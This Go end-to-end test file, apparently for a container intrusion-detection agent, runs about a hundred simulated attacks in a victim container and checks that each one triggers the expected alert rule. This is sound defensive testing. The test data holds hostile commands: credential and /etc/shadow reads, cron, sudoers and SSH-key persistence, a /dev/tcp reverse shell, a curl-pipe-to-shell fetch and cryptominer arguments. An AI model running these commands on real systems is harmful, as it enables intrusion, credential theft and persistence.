package e2e

import (
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	"bobwatch/internal/alert"
	"bobwatch/internal/rule"
	"bobwatch/internal/severity"
	"bobwatch/test/watch"
)

// attack is an act of a root shell in the victim, and the alert that has to
// name it.
type attack struct {
	name  string
	line  string // for the victim; $T is a file that belongs to this attack
	named func(*alert.Alert) bool
	rule  rule.ID // that has to report it
}

// attacks are made in this order, in one container.
var attacks = []attack{
	// The same file, opened in every way there is.
	{"open", "attack open $T", opened("/etc/secrets/open"), "R0002"},
	{"openat2", "attack openat2 $T", opened("/etc/secrets/openat2"), "R0002"},
	{"relative", "attack relative $T", opened("/etc/secrets/relative"), "R0002"},
	{"dots", "attack open /tmp/../etc/./secrets//dots", opened("/etc/secrets/dots"), "R0002"},
	{"symlink", "attack symlink $T", opened("/etc/secrets/symlink"), "R0002"},
	{"hardlink", "attack hardlink $T", opened("/tmp/hardlink.txt"), "R0002"},
	{"renamed-file", "mv $T /tmp/innocent && attack open /tmp/innocent", opened("/tmp/innocent"), "R0002"},
	{"magic-link", "attack magic-link $T", opened("/etc/secrets/magic-link"), "R0002"},
	// An overlay file system gives no handles.
	{"handle", "cp $T /dev/shm/handle && attack handle /dev/shm/handle", func(a *alert.Alert) bool {
		return opened("/dev/shm/handle")(a) && a.Deviation.Open.Flags == "O_RDONLY"
	}, "R0002"},
	{"race", "attack race $T", opened("/etc/secrets/race"), "R0002"},
	{"uring", "attack uring $T", func(a *alert.Alert) bool { return opened("/etc/secrets/uring")(a) && a.Deviation.Open.IOUring }, "R0002"},
	{"compat-open", "attack compat-open $T", opened("/etc/secrets/compat-open"), "R0002"},
	{"creat", "attack creat /etc/secrets/new", opened("/etc/secrets/new"), "R0002"},
	{"shadow", "attack open /etc/shadow", opened("/etc/shadow"), "R0010"},
	{"shadow-by-cat", "cat /etc/shadow-", opened("/etc/shadow-"), "R0010"},
	{"token", "attack open /run/secrets/kubernetes.io/serviceaccount/token", opened("/run/secrets/kubernetes.io/serviceaccount/token"), "R0006"},
	{"environ", "attack open /proc/1/environ", openedIn("/proc/", "/environ"), "R0008"},
	{"memory", "attack open /proc/1/mem", openedIn("/proc/", "/mem"), "R1015"},
	{"by-builtin", "read -r x <$T", opened("/etc/secrets/by-builtin"), "R0002"},
	{"cron", "echo '* * * * * root id' >/etc/cron.d/evil", opened("/etc/cron.d/evil"), "BW124"},
	{"preload-file", "echo /tmp/evil.so >/etc/ld.so.preload; rm /etc/ld.so.preload", opened("/etc/ld.so.preload"), "R1011"},
	{"write-passwd", "attack write /etc/passwd", func(a *alert.Alert) bool {
		return opened("/etc/passwd")(a) && a.Deviation.Open.Flags != "O_RDONLY"
	}, "BW127"},

	// Programs that are not the workload's.
	{"new-program", "nl $T", executed("/usr/bin/nl"), "R0001"},
	{"dropped", "cp /usr/bin/nl /tmp/dropped && /tmp/dropped $T", executed("/tmp/dropped"), "R1001"},
	{"replaced", "cp /usr/bin/nl /usr/local/bin/id && /usr/local/bin/id $T", executed("/usr/local/bin/id"), "R1001"},
	{"copied-shell", "cp /bin/sh /tmp/ls && /tmp/ls -c :", executed("/tmp/ls"), "R1001"},
	{"renamed-shell", "cp /bin/bash /tmp/sh.new && mv /tmp/sh.new /tmp/cat && /tmp/cat -c :", executed("/tmp/cat"), "R1001"},
	{"symlinked-shell", "ln -s /bin/sh /tmp/ls2 && /tmp/ls2 -c :", ran("/usr/bin/dash", "/tmp/ls2"), "R0040"},
	{"memfd", "attack memfd", inMemory, "R1005"},
	{"memfd-proc", "attack memfd-proc", executed("memfd:other"), "R1005"},
	{"deleted-exec", "attack deleted-exec", func(a *alert.Alert) bool {
		return a.Deviation.Exec != nil && (a.Deviation.Exec.File.Deleted || strings.HasPrefix(a.Deviation.Exec.Path, "/tmp/.gone"))
	}, "BW130"},
	{"thread-exec", "attack thread-exec", argument("thread"), "R0040"},
	{"chain", "attack chain 5", argument("chain"), "R0040"},
	{"script", "printf '#!/bin/sh\\n:\\n' >/tmp/x.sh; chmod +x /tmp/x.sh; /tmp/x.sh", ran("/usr/bin/dash", "/tmp/x.sh"), "R0040"},
	{"perl", "perl -e 1", executed("/usr/bin/perl"), "R0001"},
	{"loader", "/lib64/ld-linux-x86-64.so.2 /usr/bin/nl $T", func(a *alert.Alert) bool {
		return a.Deviation.Exec != nil && strings.Contains(a.Deviation.Exec.Path, "ld-linux")
	}, "R0001"},
	{"preload", "cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/evil.so; LD_PRELOAD=/tmp/evil.so cat /dev/null", opened("/tmp/evil.so"), "R0002"},
	{"reverse-shell", "bash -c 'bash -i >/dev/tcp/127.0.0.1/9' || true", executed("/usr/bin/bash"), "BW101"},

	// Peers, ports and sockets that are not the workload's.
	{"bind-shell", "attack bind-shell", func(a *alert.Alert) bool {
		c := a.Deviation.Contact
		return c != nil && c.Direction == "listen" && c.Protocol == "TCP" && c.Port == 4444
	}, "BW007"},
	{"scan-ports", "attack scan-ports", func(a *alert.Alert) bool {
		c := a.Deviation.Contact
		return c != nil && c.Direction == "egress" && c.Address == "127.0.0.1" && c.Port >= 20_000 && c.Port < 20_200
	}, "R0011"},
	{"exfiltrate", "attack exfiltrate", func(a *alert.Alert) bool {
		c := a.Deviation.Contact
		return c != nil && c.Direction == "egress" && c.Protocol == "UDP" && c.Address == "127.0.0.2" && c.Port == 5353
	}, "R0011"},
	{"packet-socket", "attack packet-socket", func(a *alert.Alert) bool {
		return a.Deviation.Socket != nil && a.Deviation.Socket.Family == "packet"
	}, "BW115"},
	{"control-socket", "mkdir -p /run/containerd; attack control-socket /run/containerd/containerd.sock", func(a *alert.Alert) bool {
		return a.Deviation.Contact != nil && a.Deviation.Contact.Path == "/run/containerd/containerd.sock"
	}, "BW009"},

	// Changes of files that are not the workload's.
	{"setcap", "cp /usr/bin/nl /tmp/capable && attack setcap /tmp/capable", changed("setcap", "/tmp/capable"), "BW136"},
	{"symlink-shadow", "ln -s /etc/shadow /tmp/notes", func(a *alert.Alert) bool {
		return changed("symlink", "/tmp/notes")(a) && a.Deviation.Change.Other == "/etc/shadow"
	}, "R1010"},
	{"hardlink-shadow", "ln /etc/shadow /tmp/minutes", func(a *alert.Alert) bool {
		return changed("link", "/etc/shadow")(a) && a.Deviation.Change.Other == "/tmp/minutes"
	}, "R1012"},
	{"rename-over", "cp /bin/ls /tmp/ls.new && mv /tmp/ls.new /bin/ls", func(a *alert.Alert) bool {
		return changed("rename", "/bin/ls")(a) && a.Severity >= severity.High
	}, "BW010"},

	// System calls that are not the workload's.
	{"ptrace", "attack ptrace", called("ptrace"), "R1015"},
	{"vm-read", "attack vm-read", called("process_vm_readv"), "R1015"},
	{"unshare", "attack unshare", called("unshare"), "R1006"},
	{"setns", "attack setns", called("setns"), "BW106"},
	{"mount", "attack mount; umount /tmp || true", called("mount"), "BW107"},
	{"chroot", "attack chroot", called("chroot"), "BW151"},
	{"module", "attack module", called("init_module"), "R1002"},
	{"bpf", "attack bpf", called("bpf"), "R0009"},
	{"keyctl", "attack keyctl", called("keyctl"), "BW148"},
	{"userfaultfd", "attack userfaultfd", called("userfaultfd"), "BW112"},
	{"compat", "attack compat", func(a *alert.Alert) bool { return abi("386")(a) && a.Deviation.Syscall.Name == "getpid" }, "R0003"},
	{"x32", "attack x32", abi("x32"), "BW138"},
	{"syscall-600", "attack syscall-600", func(a *alert.Alert) bool {
		return a.Deviation.Syscall != nil && a.Deviation.Syscall.Number == 600
	}, "R0003"},

	// Acts that have a rule of their own.
	{"kubectl", "cp /usr/bin/nl /tmp/kubectl && /tmp/kubectl $T", executed("/tmp/kubectl"), "R0007"},
	{"miner", "nl -a rx/0 --donate-level $T || true", argument("--donate-level"), "R1007"},
	{"miner-pool", "tac stratum+tcp://pool.example:3333 || true", argument("stratum+tcp://pool.example:3333"), "R1007"},
	{"mining-port", "attack connect 127.0.0.3:3333", connectedTo("127.0.0.3", 3333), "R1009"},
	{"metadata", "attack connect 169.254.169.254:80", connectedTo("169.254.169.254", 80), "BW113"},
	{"perl-shell", "perl -e 'exit; # fsockopen('", argument("exit; # fsockopen("), "BW101"},
	{"fetch", "sh -c 'exit 0; curl -s http://192.0.2.1/x | sh'", argument("exit 0; curl -s http://192.0.2.1/x | sh"), "BW102"},
	{"core-pattern", "attack write /proc/sys/kernel/core_pattern", opened("/proc/sys/kernel/core_pattern"), "BW103"},
	{"release-agent", "mkdir -p /tmp/cgrp; attack creat /tmp/cgrp/release_agent", opened("/tmp/cgrp/release_agent"), "BW103"},
	{"kallsyms", "attack open /proc/kallsyms", opened("/proc/kallsyms"), "BW105"},
	{"keys", "attack open /proc/keys", opened("/proc/keys"), "BW105"},
	{"reboot", "attack call reboot", called("reboot"), "BW109"},
	{"kexec", "attack call kexec_load", called("kexec_load"), "BW109"},
	{"clock", "attack call clock_settime", called("clock_settime"), "BW110"},
	{"iopl", "attack call iopl", called("iopl"), "BW111"},
	{"pivot", "attack call pivot_root", called("pivot_root"), "BW151"},
	{"fsopen", "attack call fsopen", called("fsopen"), "BW107"},
	{"vm-write", "attack call process_vm_writev", called("process_vm_writev"), "R1015"},
	{"finit-module", "attack call finit_module", called("finit_module"), "R1002"},
	{"add-key", "attack call add_key", called("add_key"), "BW148"},
	{"io-uring", "attack call io_uring_register", called("io_uring_register"), "R1030"},
	{"swap", "attack call swapon", called("swapon"), "R0003"},
	{"vsock", "attack socket 40", inFamily("vsock"), "BW116"},
	{"dpkg", "dpkg --version", executed("/usr/bin/dpkg"), "BW117"},
	{"nsenter", "nsenter --version", executed("/usr/bin/nsenter"), "BW120"},
	{"unshare-tool", "unshare --version", executed("/usr/bin/unshare"), "BW120"},
	{"shred", "cp $T /tmp/gone && shred -u /tmp/gone", executed("/usr/bin/shred"), "BW121"},
	{"su", "su --version", executed("/usr/bin/su"), "BW147"},
	{"find-keys", "find /nowhere -name id_rsa || true", argument("id_rsa"), "BW122"},
	{"grep-keys", "grep -r 'PRIVATE KEY' /var/empty || true", argument("PRIVATE KEY"), "BW122"},
	{"login-key", "mkdir -p /root/.ssh; echo key >/root/.ssh/authorized_keys", opened("/root/.ssh/authorized_keys"), "BW125"},
	{"bashrc", "echo id >>/root/.bashrc", opened("/root/.bashrc"), "BW126"},
	{"profile-d", "echo id >/etc/profile.d/evil.sh", opened("/etc/profile.d/evil.sh"), "BW126"},
	{"sudoers", "mkdir -p /etc/sudoers.d; echo all >/etc/sudoers.d/evil", opened("/etc/sudoers.d/evil"), "BW127"},
	{"unit", "echo x >/etc/systemd/system/evil.service", opened("/etc/systemd/system/evil.service"), "BW128"},
	{"init-script", "echo x >/etc/init.d/evil", opened("/etc/init.d/evil"), "BW128"},
	{"changed-program", "echo x >>/usr/bin/tac", opened("/usr/bin/tac"), "BW129"},
	{"changed-library", "echo x >/usr/lib/evil", opened("/usr/lib/evil"), "BW129"},
	{"hidden", "cp /usr/bin/nl /tmp/.x && /tmp/.x $T", executed("/tmp/.x"), "BW132"},
	{"in-dev", "echo x >/dev/evil; rm /dev/evil", opened("/dev/evil"), "BW133"},
	{"chmod-s", "cp /usr/bin/nl /tmp/suid && chmod u+s /tmp/suid", changed("setuid", "/tmp/suid"), "BW136"},
	{"base64", "echo aWQ= | base64 -d", executed("/usr/bin/base64"), "BW137"},
	{"base64-code", "sh -c 'exit 0; echo aWQ= | base64 -d'", argument("exit 0; echo aWQ= | base64 -d"), "BW137"},
	{"liblzma", "cp /usr/bin/nl /tmp/liblzma.so.5.6.1 && attack open /tmp/liblzma.so.5.6.1", func(a *alert.Alert) bool {
		return opened("/tmp/liblzma.so.5.6.1")(a) && a.Deviation.Open.Flags == "O_RDONLY"
	}, "BW139"},
	{"docker-socket", "attack control-socket /tmp/docker.sock", func(a *alert.Alert) bool {
		return a.Deviation.Contact != nil && a.Deviation.Contact.Path == "/tmp/docker.sock"
	}, "BW009"},
}

// TestAttacks makes all attacks on a container whose benign life was learned,
// and wants one alert for each that says what it was.
func TestAttacks(t *testing.T) {
	l := newLab(t)
	config := l.config(t, 8*time.Second)
	a := l.agent(t, config)
	learnVictim(t, l, config)

	k := l.start(t, l.victim, victimSpec("victim-attacked"))
	if err := l.victim.Load(t.Context(), k, 100); err != nil {
		t.Fatal(err)
	}
	mustBeSilent(t, a, "/usr/bin/shuf", func() { mustTell(t, k, "shuf /dev/null") })
	var begun []time.Time
	for _, act := range attacks {
		time.Sleep(50 * time.Millisecond) // alerts have times of milliseconds
		begun = append(begun, time.Now())
		t.Run(act.name, func(t *testing.T) {
			before := len(a.Alerts())
			// In a process of its own, as what a request starts is.
			t.Log(mustTell(t, k, "( "+strings.ReplaceAll(act.line, "$T", secrets+act.name)+" )"))
			ctx, cancel := context.WithTimeout(t.Context(), patience)
			defer cancel()
			seen, ok := a.Await(ctx, before, act.named)
			if !ok {
				t.Errorf("%s: no alert named it", act.line)
				for _, s := range a.Alerts()[before:] {
					t.Logf("but: %s", s.Message)
				}
				return
			}
			if seen.Rule != act.rule {
				t.Errorf("reported by %s (and %v), want %s", seen.Rule, seen.Also, act.rule)
			}
			if seen.Container.ID != k.ID || seen.Workload.Name != "victim" {
				t.Errorf("alert is about workload %q, container %q", seen.Workload.Name, seen.Container.ID)
			}
			t.Logf("%s after %s", seen.Message, seen.At.Sub(seen.Last))
		})
	}
	if err := a.Stop(); err != nil {
		t.Fatal(err)
	}
	mustTellAll(t, a.Alerts(), history(t, config))
	mustBeOneIncidentEach(t, a.Alerts(), begun)
}

// TestAttacksWhileLearning makes the attacks on a container that is being
// learned: rules that need no profile report theirs all the same, and no other
// rule does.
func TestAttacksWhileLearning(t *testing.T) {
	l := newLab(t)
	a := l.agent(t, l.config(t, time.Hour))
	k := l.start(t, l.victim, victimSpec("victim-learning"))
	for _, act := range attacks {
		about, _ := rule.Lookup(act.rule)
		if about.Profile == rule.NeedsProfile {
			continue
		}
		t.Run(act.name, func(t *testing.T) {
			before := len(a.Alerts())
			mustTell(t, k, strings.ReplaceAll(act.line, "$T", secrets+act.name))
			ctx, cancel := context.WithTimeout(t.Context(), patience)
			defer cancel()
			seen, ok := a.Await(ctx, before, act.named)
			if !ok || seen.Rule != act.rule {
				t.Errorf("%s: reported %t, by %s (and %v), want %s", act.line, ok, seen.Rule, seen.Also, act.rule)
			}
		})
	}
	for _, s := range a.Alerts() {
		if about, _ := rule.Lookup(s.Rule); about.Profile == rule.NeedsProfile {
			t.Errorf("%s needs a profile: %s", s.Rule, s.Message)
		}
	}
}

// TestExecFromOutside wants programs that were started from outside of the
// container told apart from the container's own, and those with a terminal
// from those without.
func TestExecFromOutside(t *testing.T) {
	l := newLab(t)
	config := l.config(t, 8*time.Second)
	a := l.agent(t, config)
	learnVictim(t, l, config)
	k := l.start(t, l.victim, victimSpec("victim-entered"))
	tests := map[string]struct {
		run func(context.Context, ...string) ([]byte, error)
		tty bool
	}{
		"without a terminal": {run: k.Exec},
		"with a terminal":    {run: k.ExecTTY, tty: true},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			before := len(a.Alerts())
			// A program of its own for each, since equal acts are one incident.
			program := map[bool]string{true: "nl", false: "tac"}[tt.tty]
			target := "/usr/lib/" + program
			if _, err := tt.run(t.Context(), program, target+"/missing"); err == nil {
				t.Fatalf("%s succeeded on a missing file", program)
			}
			ctx, cancel := context.WithTimeout(t.Context(), patience)
			defer cancel()
			seen, ok := a.Await(ctx, before, argument(target+"/missing"))
			if !ok {
				t.Fatal("no alert")
			}
			if seen.Origin.Kind != alert.OriginOutside || seen.Origin.TTY != tt.tty {
				t.Errorf("origin = %+v, want outside with tty %t", seen.Origin, tt.tty)
			}
		})
	}
}

// learnVictim lets the agent learn the victim's benign life.
func learnVictim(t *testing.T, l *lab, config watch.Config) {
	t.Helper()
	k := l.start(t, l.victim, victimSpec("victim-learned"))
	for end := time.Now().Add(config.Window); time.Now().Before(end); {
		if err := l.victim.Load(t.Context(), k, int(time.Until(end))); err != nil {
			t.Fatal(err)
		}
	}
	learned(t, config, "victim")
	l.stop(t, k)
}

func opened(path string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool { return a.Deviation.Open != nil && a.Deviation.Open.Path == path }
}

func openedIn(prefix, suffix string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool {
		o := a.Deviation.Open
		return o != nil && strings.HasPrefix(o.Path, prefix) && strings.HasSuffix(o.Path, suffix)
	}
}

// changed returns a match for an act on a file or name.
func changed(act, path string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool {
		c := a.Deviation.Change
		return c != nil && c.Act == act && c.Path == path
	}
}

func executed(path string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool { return a.Deviation.Exec != nil && a.Deviation.Exec.Path == path }
}

// argument returns a match for an execution with arg among its arguments.
func argument(arg string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool {
		return a.Deviation.Exec != nil && slices.Contains(a.Deviation.Exec.Args, arg)
	}
}

// ran returns a match for an execution of path with arg among its arguments.
func ran(path, arg string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool { return executed(path)(a) && argument(arg)(a) }
}

func inMemory(a *alert.Alert) bool { return a.Deviation.Exec != nil && a.Deviation.Exec.File.Memfd }

func called(name string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool { return a.Deviation.Syscall != nil && a.Deviation.Syscall.Name == name }
}

func connectedTo(address string, port uint16) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool {
		c := a.Deviation.Contact
		return c != nil && c.Direction == "egress" && c.Address == address && c.Port == port
	}
}

func inFamily(family string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool { return a.Deviation.Socket != nil && a.Deviation.Socket.Family == family }
}

func abi(name string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool { return a.Deviation.Syscall != nil && a.Deviation.Syscall.ABI == name }
}
